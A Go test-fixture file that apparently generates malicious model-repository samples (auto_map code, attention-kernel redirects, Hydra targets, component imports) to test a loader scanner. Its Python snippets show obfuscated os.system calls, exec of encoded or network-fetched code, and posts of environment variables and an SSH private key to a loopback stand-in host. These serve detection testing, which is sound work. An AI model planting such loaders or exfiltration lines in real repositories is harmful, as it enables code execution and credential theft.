package hostile

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
)

// repositorySamples are models of files in model repositories that configure their loader.
func repositorySamples() []Sample {
	var all []Sample
	for _, group := range [][]Sample{remoteCodeSamples(), redirectSamples(), hydraSamples(), componentSamples(), templateFileSamples(), yamlSamples(), hiddenSourceSamples(), evasionSamples()} {
		all = append(all, group...)
	}
	return all
}

// harmlessShell is the payload of every source file below: it prints the marker.
const harmlessShell = "echo " + Marker

// quoted writes a value as JSON.
func quoted(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		return "null" // strings and maps of strings cannot fail
	}
	return string(b)
}

// configuration makes the sample of a configuration beside other files.
func configuration(group, id, technique, content string, beside map[string]string) Sample {
	s := Sample{Name: "repository-" + id + "-config.json", Group: group, Technique: technique, Loader: "transformers", Build: build([]byte(content))}
	for name, text := range beside {
		if s.Beside == nil {
			s.Beside = map[string][]byte{}
		}
		s.Beside[name] = []byte(text)
	}
	return s
}

// remoteCode are source files that a configuration names: each runs the payload in another way when it is imported.
func remoteCode() []struct{ id, technique, source string } {
	encoded := base64.StdEncoding.EncodeToString([]byte("import os; os.system('" + harmlessShell + "')"))
	run := "('" + harmlessShell + "')\n"
	return []struct{ id, technique, source string }{
		{"system", "the source of the model calls os.system when it is imported", "import os\nos.system" + run},
		{"popen", "the source of the model calls subprocess under an alias", "import subprocess as s\ns.Popen" + run},
		{"from-import", "a function of the system imported under another name", "from os import system as forward\nforward" + run},
		{"star-import", "everything of a module is imported", "from os import *\nsystem" + run},
		{"posix", "the module behind os", "import posix\nposix.system" + run},
		{"dunder-import", "import by __import__", "__import__('os').system" + run},
		{"importlib", "import by importlib", "import importlib\nimportlib.import_module('o' + 's').system" + run},
		{"getattr", "the function is looked up by a name in pieces", "import os\ngetattr(os, 'sys' + 'tem')" + run},
		{"getattr-reversed", "the function is looked up by a name turned round", "import os\ngetattr(os, 'metsys'[::-1])" + run},
		{"getattr-chr", "the function is looked up by a name of numbers", "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))" + run},
		{"getattr-base64", "the function is looked up by a name in base64", "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())" + run},
		{"getattr-unknown", "the function is looked up by a name of the environment", "import os\ngetattr(os, os.environ['X'])" + run},
		{"dict", "the function is looked up in the dictionary of the module", "import os\nos.__dict__['system']" + run},
		{"sys-modules", "the module is looked up among those that are loaded", "import sys\nsys.modules['os'].system" + run},
		{"builtins", "the built-in functions are reached through their module", "__builtins__['__import__']('os').system" + run},
		{"list", "the function waits in a list", "import os\n[print, os.system][1]" + run},
		{"walrus", "the function is bound in an expression", "import os\n(f := os.system)" + run},
		{"map", "the function is handed to map", "import os\nlist(map(os.system, ['" + harmlessShell + "']))\n"},
		{"decorator", "the function is called as a decorator", "import os\n@os.system\n@(lambda f: '" + harmlessShell + "')\ndef model(): pass\n"},
		{"default", "the function is called for the default of a parameter", "import os\ndef forward(x=os.system('" + harmlessShell + "')): pass\n"},
		{"class-body", "the function is called in the body of the class", "import os\nclass Model:\n    hidden_size = os.system('" + harmlessShell + "')\n"},
		{"f-string", "the function is called inside a string", "import os\nname = f'{os.system(\"" + harmlessShell + "\")}'\n"},
		{"helper", "a helper of the file is called when it is imported", "import os\ndef setup():\n    os.system('" + harmlessShell + "')\nsetup()\n"},
		{"thread", "a thread runs a helper", "import os, threading\ndef job():\n    os.system('" + harmlessShell + "')\nthreading.Thread(target=job).start()\n"},
		{"instance", "an object of the file runs its method", "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('" + harmlessShell + "')\nA()\n"},
		{"init", "the model runs a program when it is made", "import os\nclass Model:\n    def __init__(self, config):\n        os.system('" + harmlessShell + "')\n"},
		{"forward", "the model runs a program when it is used", "import os\nclass Model:\n    def forward(self, x):\n        os.system('" + harmlessShell + "')\n"},
		{"exec-base64", "source in base64 is executed", "import base64\nexec(base64.b64decode('" + encoded + "'))\n"},
		{"exec-hex", "source in hexadecimal digits is executed", fmt.Sprintf("exec(bytes.fromhex('%x'))\n", "import os; os.system('"+harmlessShell+"')")},
		{"exec-rot13", "source in rot13 is executed", "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n"},
		{"exec-marshal", "bytecode is executed", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))\n"},
		{"exec-xor", "source under a key is executed", "exec(''.join(chr(ord(c) ^ 7) for c in 'wuni'))\n"},
		{"exec-nested", "source in source in source is executed", "exec(\"exec(\\\"exec('import os; os.system(1)')\\\")\")\n"},
		{"exec-fetched", "source from the network is executed", "from urllib.request import urlopen\nexec(urlopen('http://127.0.0.1:9/').read())\n"},
		{"eval-unknown", "text of a file is evaluated", "eval(open('x').read())\n"},
		{"lookalike", "the name in letters that only Python takes for plain ones", "import os\n𝐨𝐬.𝘀𝘆𝘀𝘁𝗲𝗺" + run},
		{"subclasses", "the function is found among the subclasses of object", "[c for c in ().__class__.__base__.__subclasses__() if 'wrap' in c.__name__]\n"},
		{"exfiltrate", "the environment is sent away", "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n"},
		{"key-file", "a key is sent away", "import requests\nrequests.post('http://127.0.0.1:9/', data=open('/root/.ssh/id_rsa').read())\n"},
		{"connect", "a connection is opened when the source is imported", "import socket\nsocket.create_connection(('127.0.0.1', 9))\n"},
		{"delete", "a folder is deleted when the source is imported", "import shutil\nshutil.rmtree('/tmp/" + Marker + "', ignore_errors=True)\n"},
		{"utf7", "source in an encoding that turns comments into code", "# coding: utf-7\n# +AAo-import os+AAo-os.system('" + harmlessShell + "')\n"},
		{"broken", "source that is cut off: what a lenient loader would run is not known", "import torch\nx = ('\n"},
	}
}

// remoteCodeSamples are configurations with auto_map.
func remoteCodeSamples() []Sample {
	var all []Sample
	for _, c := range remoteCode() {
		all = append(all, configuration("remote-code", "code-"+c.id, c.technique, `{"model_type":"x","auto_map":{"AutoModel":"modeling_x.Model"}}`,
			map[string]string{"modeling_x.py": c.source}))
	}
	attack := "import os\nos.system('" + harmlessShell + "')\n"
	for _, c := range []struct{ id, technique, content, file string }{
		{"tokenizer", "the tokenizer brings the code", `{"tokenizer_class":"X","auto_map":{"AutoTokenizer":["tok.X",null]}}`, "tok.py"},
		{"escaped-key", "the member is written with escapes", `{"\u0061uto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py"},
		{"padded", "the member stands behind two megabytes of a vocabulary", `{"vocab":"` + strings.Repeat("x", 2<<20) + `","auto_map":{"AutoModel":"modeling_x.Model"}}`, "modeling_x.py"},
		{"nested-config", "the member stands in the configuration of a part", `{"text_config":{"auto_map":{"AutoModel":"modeling_x.Model"}}}`, "modeling_x.py"},
		{"custom-pipeline", "a custom pipeline brings the code", `{"custom_pipelines":{"x":{"impl":"pipe.P","pt":["AutoModel"],"type":"text"}}}`, "pipe.py"},
		{"indirect", "the named file imports another one that attacks", `{"auto_map":{"AutoModel":"modeling_x.Model"}}`, "util.py"},
	} {
		beside := map[string]string{c.file: attack}
		if c.id == "indirect" {
			beside["modeling_x.py"] = "import torch\nfrom .util import helper\n"
		}
		all = append(all, configuration("remote-code", "map-"+c.id, c.technique, c.content, beside))
	}
	return all
}

// redirectSamples send the loader to other repositories.
func redirectSamples() []Sample {
	one := func(id, technique, content string) Sample {
		return configuration("redirect", id, technique, content, nil)
	}
	return []Sample{
		one("attn-internal", "CVE-2026-4372: an internal member makes the loader run code of a repository", `{"model_type":"llama","_attn_implementation_internal":"evil/kernel"}`),
		one("attn-internal-nested", "CVE-2026-4372 in the configuration of a part", `{"vision_config":{"_attn_implementation_internal":"evil/kernel:attention"}}`),
		one("attn-hub-kernel", "CVE-2026-4372: the public member with a repository", `{"attn_implementation":"evil/kernel"}`),
		one("attn-hub-kernel-parts", "CVE-2026-4372: one implementation for each part", `{"_attn_implementation":{"text_config":"evil/kernel"}}`),
		one("experts-kernel", "the implementation of experts is a repository", `{"_experts_implementation_internal":"evil/kernel"}`),
		one("other-repository", "the code of the model lies in another repository", `{"auto_map":{"AutoModel":"evil/repo--modeling_x.Model"}}`),
		one("pipeline-repository", "the code of a pipeline lies in another repository", `{"custom_pipelines":{"x":{"impl":"evil/repo--pipe.P"}}}`),
		one("map-escape", "the code of the model lies outside of its folder", `{"auto_map":{"AutoModel":"../../evil.Model"}}`),
		one("map-absolute", "the code of the model has an absolute path", `{"auto_map":{"AutoModel":"/tmp/evil.Model"}}`),
		one("vocabulary-escape", "the vocabulary is a file of the system", `{"tokenizer_class":"X","vocab_file":"../../../../../etc/passwd"}`),
		one("generate-repository", "the generation loop lies in another repository", `{"custom_generate":"evil/loop"}`),
		one("code-in-text", "a text of the configuration is code, for a loader that evaluates it", `{"activation":"__import__('os').system('`+harmlessShell+`')"}`),
	}
}

// hydraSamples make a library call what the configuration names.
func hydraSamples() []Sample {
	var all []Sample
	for i, target := range []string{"os.system", "posix.system", "subprocess.run", "builtins.exec", "builtins.eval", "mylib.utils.subprocess.Popen", "torch.hub.load", "torch.load",
		"pickle.loads", "hydra.utils.instantiate", "importlib.import_module", "shutil.rmtree", "runpy.run_path", "keras.utils.get_file", "urllib.request.urlopen"} {
		s := configuration("hydra-json", fmt.Sprintf("target-%02d", i), "Unit 42 2026-01: the configuration makes a library call "+target,
			`{"model":{"_target_":`+quoted(target)+`,"_args_":["`+harmlessShell+`"]}}`, nil)
		s.Loader = "hydra"
		all = append(all, s)
	}
	return all
}

// componentSamples name libraries for the loader to import.
func componentSamples() []Sample {
	attack := map[string]string{"custom_st.py": "import os\nos.system('" + harmlessShell + "')\n", "scheduler/my_scheduler.py": "import os\nos.system('" + harmlessShell + "')\n"}
	one := func(id, technique, content string) Sample {
		return configuration("component", id, technique, content, attack)
	}
	return []Sample{
		one("module-os", "sentence-transformers imports os", `[{"idx":0,"name":"0","path":"","type":"os.system"}]`),
		one("module-unknown", "sentence-transformers imports a library of the attacker", `[{"idx":0,"name":"0","path":"","type":"evil_package.Transformer"}]`),
		one("module-local", "sentence-transformers imports a file of the repository", `[{"idx":0,"name":"0","path":"","type":"custom_st.Transformer"}]`),
		one("module-repository", "sentence-transformers imports a file of another repository", `[{"idx":0,"name":"0","path":"","type":"evil/repo--custom_st.Transformer"}]`),
		one("module-escape", "a module lies outside of the model", `[{"idx":0,"name":"0","path":"../../../tmp","type":"sentence_transformers.models.Transformer"}]`),
		one("diffusers-os", "a component of a diffusion pipeline is a function of os", `{"_class_name":"X","_diffusers_version":"0.30.0","scheduler":["os","system"]}`),
		one("diffusers-unknown", "a component is of a library of the attacker", `{"_class_name":"X","_diffusers_version":"0.30.0","scheduler":["evil_package","run"]}`),
		one("diffusers-local", "a component is a file of the repository", `{"_class_name":"X","_diffusers_version":"0.30.0","scheduler":["my_scheduler","S"]}`),
		one("diffusers-escape", "a component is a file elsewhere", `{"_class_name":"X","_diffusers_version":"0.30.0","scheduler":["../../evil","S"]}`),
		one("adapter-os", "an adapter makes peft import os", `{"peft_type":"LORA","auto_mapping":{"base_model_class":"system","parent_library":"os"}}`),
		one("adapter-unknown", "an adapter makes peft import a library of the attacker", `{"peft_type":"LORA","auto_mapping":{"base_model_class":"X","parent_library":"evil_package.module"}}`),
	}
}
